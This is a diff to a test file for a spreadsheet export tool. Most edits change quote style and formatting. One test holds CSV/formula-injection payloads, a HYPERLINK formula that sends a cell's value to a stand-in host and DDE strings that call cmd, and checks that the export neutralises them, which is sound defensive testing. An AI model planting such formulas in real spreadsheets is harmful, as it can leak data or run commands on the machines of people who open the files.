@@ -41,7 +41,7 @@ test('seed 003 exports exactly the v1 header and one action record per action', 
   expect(text).toContain('Helen Boocock');
 });
 
-test('de-personalised, none of the officers\' names appear anywhere', async () => {
+test("de-personalised, none of the officers' names appear anywhere", async () => {
   const csv = path.join(dir, 'derby-depersonalised.csv');
   const xlsx = path.join(dir, 'derby-depersonalised.xlsx');
   expect((await run(['export', seed003, '-o', csv, '--depersonalise'])).status).toBe(0);
@@ -67,7 +67,7 @@ test('de-personalised, none of the officers\' names appear anywhere', async () =
 
 test('a hostile plan exports every dangerous cell neutralised, its text kept, and LibreOffice evaluates none', async () => {
   const hostile = path.join(dir, 'hostile.xlsx');
-  const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+44 1256 000000', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0'];
+  const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+44 1256 000000', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
   writeFileSync(
     hostile,
     await gridsToXlsx([
@@ -109,11 +109,19 @@ test('a hostile plan exports every dangerous cell neutralised, its text kept, an
   for (const a of attacks) expect(texts).toContain(`'${a}`);
 });
 
-test('collate combines agencies\' files and rejects another schema version with a clear message', async () => {
+test("collate combines agencies' files and rejects another schema version with a clear message", async () => {
   const a = path.join(dir, 'agency-a.csv');
   expect((await run(['export', seed003, '-o', a])).status).toBe(0);
   const other = path.join(dir, 'other.xlsx');
-  writeFileSync(other, await gridsToXlsx([buildGrid('Plan', [['No', 'Action', 'Lead', 'Timescale'], ['9.1', 'A probation action', 'Probation', 'March 2004']])]));
+  writeFileSync(
+    other,
+    await gridsToXlsx([
+      buildGrid('Plan', [
+        ['No', 'Action', 'Lead', 'Timescale'],
+        ['9.1', 'A probation action', 'Probation', 'March 2004'],
+      ]),
+    ]),
+  );
   const b = path.join(dir, 'agency-b.xlsx');
   expect((await run(['export', other, '-o', b])).status).toBe(0);
   const out = path.join(dir, 'collated.csv');
